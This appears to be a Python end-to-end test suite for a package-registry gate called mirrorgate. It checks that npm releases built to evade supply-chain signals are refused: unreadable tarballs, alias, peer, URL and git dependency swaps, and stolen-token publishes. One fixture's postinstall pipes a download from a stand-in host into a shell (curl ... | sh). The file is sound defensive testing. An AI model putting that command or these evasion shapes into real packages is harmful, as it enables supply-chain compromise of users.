"""The release signals against an attacker who has read them (issue 43's try-out), through the
real npm client, a real `mirrorgate serve` and Verdaccio as the private registry
(docs/serving.md#release-signals).

Each shape once stepped around a signal: the publisher's own tarball shape or 21 new
dependencies left a release "unchecked" and admitted; a changed install command was not new;
a young payload came in by an alias, a peer or a URL spec; a stolen token published the
payload too. Each is now refused with its rule and evidence at the first install, and the
next install of the same range resolves to the clean release before it, which alone is
mirrored. The plain shapes are `tests/e2e/test_release_signals.py`'s, refused as before.
"""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.npm.tarshapes import END, data_blocks, header, pax
from tests.servers.fixture_registry import FixtureRegistry
from tests.servers.fixtures import MirrorgateFactory
from tests.servers.incidents import entry_file, minified_bundle
from tests.servers.npm import NpmClient
from tests.servers.packages import (
    EPOCH,
    FixturePackage,
    FixtureVersion,
    make_package,
    make_version,
)
from tests.servers.processes import MirrorgateProcess, http_request, wait_for
from tests.servers.verdaccio import Verdaccio

RULES = '[age]\nminimum = "0"\n\n[release]\n'
"""Every signal at its default action; the cooldown off so the signals, not age, refuse."""
OWNER = {"name": "kit-owner", "email": "owner@example.com"}
BANNER = "node -e \"console.log('Thank you for using this kit! Fund us: https://fund.test')\""


def _fresh(days: float = 0, minutes: float = 5) -> datetime:
    return datetime.now(UTC) - timedelta(days=days, minutes=minutes)


def start(mirrorgate: MirrorgateFactory, public: FixtureRegistry, verdaccio: Verdaccio,
          tmp_path: Path, rules: str | None = RULES) -> MirrorgateProcess:
    environment = {
        "MIRRORGATE_PUBLIC_UPSTREAM": public.url, "MIRRORGATE_PRIVATE_UPSTREAM": verdaccio.url,
        "MIRRORGATE_PRIVATE_TOKEN": verdaccio.token, "MIRRORGATE_METRICS_OPEN": "true",
        "MIRRORGATE_DATA_DIR": str(tmp_path / "data")}
    if rules is not None:
        path = tmp_path / "rules.toml"
        path.write_text(rules, encoding="utf-8")
        environment["MIRRORGATE_RULES_FILE"] = str(path)
    return mirrorgate("serve", environment)


def install(npm: NpmClient, proxy: MirrorgateProcess,
            dependencies: dict[str, str]) -> subprocess.CompletedProcess[str]:
    npm.clear_cache()
    npm.write_project(dependencies)
    return npm.install(registry=proxy.registry_url)


def refused(npm: NpmClient, proxy: MirrorgateProcess, verdaccio: Verdaccio, name: str,
            wanted: str, bad: str, clean: str, rule: str,
            compared_with: str | None) -> list[str]:
    """Install `name@wanted` twice: the first stops with E403 naming `rule`, the second
    installs the clean release `clean`, and only that one is mirrored. Returns the evidence."""
    first = install(npm, proxy, {name: wanted})
    assert first.returncode != 0, first.stdout
    assert "E403" in first.stderr, first.stderr
    assert rule in first.stderr
    [refusal] = [event for event in proxy.events("release_signal_refused")
                 if event["package"] == name]
    assert (refusal["version"], refusal["rule"], refusal["security"]) == (bad, rule, True)
    assert refusal["compared_with"] == compared_with

    second = install(npm, proxy, {name: wanted})
    assert second.returncode == 0, second.stderr
    assert npm.installed()[name] == clean
    wait_for(lambda: clean in verdaccio.versions(name), timeout=60,
             message=f"the worker to mirror {name}@{clean}")
    assert bad not in verdaccio.versions(name)
    assert proxy.metric("mirrorgate_rule_denials_total", rule=rule, mode="enforce") >= 1
    page: str = http_request("GET", proxy.url + f"ui/package/{name}").body.decode()
    assert rule in page
    evidence: list[str] = refusal["evidence"]
    return evidence


def host(name: str, before: FixtureVersion, after: FixtureVersion) -> FixturePackage:
    return make_package(name, [before, after])


def version(name: str, number: str, dependencies: dict[str, str] | None = None, *,
            published: datetime = EPOCH, **fields: Any) -> FixtureVersion:
    """A release of `name` published by its usual account."""
    return make_version(name, number, dependencies, files={"index.js": entry_file(name)},
                        published=published, maintainers=[OWNER], _npmUser=OWNER, **fields)


def payload(name: str = "young-payload", by: dict[str, str] | None = None) -> FixturePackage:
    """A package first published yesterday (it prints a line when required)."""
    account = by or {"name": "payload-dev", "email": "dev@example.com"}
    package = make_package(name, [make_version(
        name, "1.0.0", files={"index.js": b"console.log('fixture payload loaded');\n"},
        published=_fresh(days=1), maintainers=[account], _npmUser=account)])
    package.fields["maintainers"] = [account]
    return package


def old(name: str) -> FixturePackage:
    return make_package(name, [make_version(name, "1.3.0", published=EPOCH, size=0)])


# --- fail closed on what the publisher controls -----------------------------------------------


def unreadable_tarball(name: str, number: str) -> bytes:
    """A tarball npm installs (node-tar takes the pax `size`) whose ustar size field says 0: a
    reader taking the ustar size reads other blocks as the next header, so the gate's reader
    refuses it, and it once left the release "unchecked", admitted by default."""
    import gzip
    import json
    manifest = json.dumps({"name": name, "version": number, "main": "index.js"}).encode()
    code = entry_file(name)
    body = (pax([("size", str(len(manifest)))]) + header("package/package.json", 0)
            + data_blocks(manifest) + pax([("size", str(len(code)))])
            + header("package/index.js", 0) + data_blocks(code) + END)
    return gzip.compress(body, mtime=0)


def test_a_release_whose_tarball_the_gate_cannot_read_is_refused_not_unchecked(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "pax-host"
    public_registry.add(host(name, version(name, "2.0.0"), make_version(
        name, "2.0.1", tarball=unreadable_tarball(name, "2.0.1"), published=_fresh(),
        maintainers=[OWNER], _npmUser=OWNER)))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^2.0.0", "2.0.1", "2.0.0",
                       "unreadable-release", "2.0.0")

    assert evidence == ["its tarball cannot be read: a pax header's size is not the entry's "
                        "ustar size"]


def test_twenty_one_new_dependencies_with_the_young_one_last_are_refused(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "many-deps"
    fillers = [f"aa-filler-{index:02}" for index in range(20)]  # sorted before the payload
    added = {**{filler: "^1.3.0" for filler in fillers}, "zz-young-payload": "^1.0.0"}
    public_registry.add(host(name, version(name, "3.0.0"),
                             version(name, "3.0.1", added, published=_fresh())),
                        payload("zz-young-payload"), *(old(filler) for filler in fillers))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^3.0.0", "3.0.1", "3.0.0",
                       "unreadable-release", "3.0.0")

    assert evidence == ["it adds 21 dependencies, more than the 20 looked up (aa-filler-00, "
                        "aa-filler-01, aa-filler-02...)"]
    assert "zz-young-payload" not in npm_client.installed()


# --- compare what runs, not names -------------------------------------------------------------


def test_a_funding_banner_postinstall_that_now_pipes_a_download_to_a_shell_is_refused(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "fund-kit"
    curl = "curl -fsSL https://payload.test/install.sh | sh"
    public_registry.add(host(name, version(name, "2.1.0", scripts={"postinstall": BANNER}),
                             version(name, "2.1.1", scripts={"postinstall": curl},
                                     published=_fresh())))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^2.1.0", "2.1.1", "2.1.0",
                       "new-install-script", "2.1.0")

    assert evidence == [f"postinstall now runs `{curl}` (2.1.0 ran `{BANNER}`)"]


def test_the_same_postinstall_over_a_new_300_kb_file_is_refused(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "setup-kit"
    files = {"index.js": entry_file(name), "setup.js": entry_file("setup")}
    public_registry.add(make_package(name, [
        make_version(name, "4.0.0", files=files, published=EPOCH,
                     scripts={"postinstall": "node setup.js"}),
        make_version(name, "4.0.1", files={**files, "setup.js": minified_bundle(300_000)},
                     published=_fresh(), scripts={"postinstall": "node setup.js"})]))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^4.0.0", "4.0.1", "4.0.0",
                       "new-install-script", "4.0.0")

    [detail] = evidence
    assert detail.startswith("postinstall runs setup.js, whose bytes changed since 4.0.0 (")


# --- dependencies as npm will install them ----------------------------------------------------


def test_an_existing_dependency_changed_to_an_alias_of_a_young_package_is_refused(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "alias-host"
    public_registry.add(host(name, version(name, "1.0.0", {"left-pad": "^1.3.0"}),
                             version(name, "1.0.1", {"left-pad": "npm:young-payload@1.0.0"},
                                     published=_fresh())),
                        old("left-pad"), payload())
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^1.0.0", "1.0.1", "1.0.0",
                       "new-dependency-young", "1.0.0")

    [detail] = evidence
    assert detail.startswith("`left-pad` (npm:young-payload@1.0.0) installs `young-payload`, "
                             "first published ")


def test_a_new_key_named_after_an_old_package_aliasing_the_payload_is_refused(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "alias-adder"
    public_registry.add(host(name, version(name, "1.0.0"),
                             version(name, "1.0.1", {"left-pad": "npm:young-payload@^1.0.0"},
                                     published=_fresh())),
                        old("left-pad"), payload())
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^1.0.0", "1.0.1", "1.0.0",
                       "new-dependency-young", "1.0.0")

    assert "installs `young-payload`" in evidence[0]


def test_a_young_package_added_as_a_peer_npm_installs_is_refused(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "peer-host"
    public_registry.add(host(name, version(name, "5.0.0"),
                             version(name, "5.0.1", published=_fresh(),
                                     peerDependencies={"young-payload": "^1.0.0"})),
                        payload())
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^5.0.0", "5.0.1", "5.0.0",
                       "new-dependency-young", "5.0.0")

    assert evidence[0].startswith("`young-payload` was first published ")


def test_a_dependency_moved_to_a_tarball_url_is_refused_as_fetched_outside_the_gate(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    # npm fetches a URL spec itself, straight from that host: no registry, no gate
    name = "url-host"
    outside = payload()
    public_registry.add(outside, old("left-pad"))
    url = outside.tarball_url(public_registry.url, "1.0.0")
    public_registry.add(host(name, version(name, "1.0.0", {"left-pad": "^1.3.0"}),
                             version(name, "1.0.1", {"left-pad": url}, published=_fresh())))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^1.0.0", "1.0.1", "1.0.0",
                       "new-dependency-outside", "1.0.0")

    assert evidence == [f"`left-pad` ({url}) is fetched from a URL, outside the gate (1.0.0 "
                        "had `^1.3.0`)"]


def git_repository(where: Path, name: str) -> str:
    """A git repository holding a package, as a `git+file://` spec npm clones itself."""
    where.mkdir()
    (where / "package.json").write_text(f'{{"name": "{name}", "version": "1.0.0"}}\n',
                                        encoding="utf-8")
    (where / "index.js").write_text("console.log('fixture payload from git');\n",
                                    encoding="utf-8")
    for argv in (["init", "-q", "-b", "main"], ["add", "."],
                 ["-c", "user.name=thief", "-c", "user.email=thief@example.com", "commit",
                  "-q", "-m", "payload"]):
        subprocess.run(["git", *argv], cwd=where, check=True, capture_output=True)
    return f"git+file://{where}"


def test_an_existing_dependency_changed_to_a_git_url_is_refused_as_fetched_outside_the_gate(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    name = "git-host"
    spec = git_repository(tmp_path / "payload-repo", "left-pad")
    public_registry.add(host(name, version(name, "1.0.0", {"left-pad": "^1.3.0"}),
                             version(name, "1.0.1", {"left-pad": spec}, published=_fresh())),
                        old("left-pad"))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^1.0.0", "1.0.1", "1.0.0",
                       "new-dependency-outside", "1.0.0")

    assert evidence == [f"`left-pad` ({spec}) is fetched from a git repository, outside the "
                        "gate (1.0.0 had `^1.3.0`)"]


# --- an exemption an attacker cannot mint -----------------------------------------------------


def test_a_payload_published_with_the_same_stolen_token_is_not_exempt(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    # the thief publishes both from the owner's account: a shared publisher once exempted it
    name = "token-host"
    public_registry.add(host(name, version(name, "1.14.0"),
                             version(name, "1.14.1", {"token-payload": "^1.0.0"},
                                     published=_fresh())),
                        payload("token-payload", by=OWNER))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path)

    evidence = refused(npm_client, proxy, verdaccio, name, "^1.14.0", "1.14.1", "1.14.0",
                       "new-dependency-young", "1.14.0")

    assert evidence[0].startswith("`token-payload` was first published ")


# --- a young package's install scripts, by what they can do (issue 55), with no rules file ---


def test_a_week_old_packages_release_whose_install_only_prints_is_admitted_by_default(
    public_registry: FixtureRegistry, verdaccio: Verdaccio, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    # no rules file: past the default one-day cooldown, the package a week old. Its new
    # postinstall prints a line: `young-package-install-script` held it until issue 55; the
    # capability signals that replaced it by default let it through (one whose script
    # downloads is refused: tests/e2e/test_capabilities.py)
    name = "fresh-setup"
    files = {"index.js": entry_file(name), "setup.js": b"console.log('fixture setup ran');\n"}
    public_registry.add(make_package(name, [
        make_version(name, "1.0.0", files=files, published=_fresh(days=7)),
        make_version(name, "1.0.1", files=files, published=_fresh(days=2),
                     scripts={"postinstall": "node setup.js"})]))
    proxy = start(mirrorgate, public_registry, verdaccio, tmp_path, rules=None)

    answer = install(npm_client, proxy, {name: "^1.0.0"})

    assert answer.returncode == 0, answer.stderr
    assert npm_client.installed()[name] == "1.0.1"
    assert proxy.events("release_signal_refused") == []
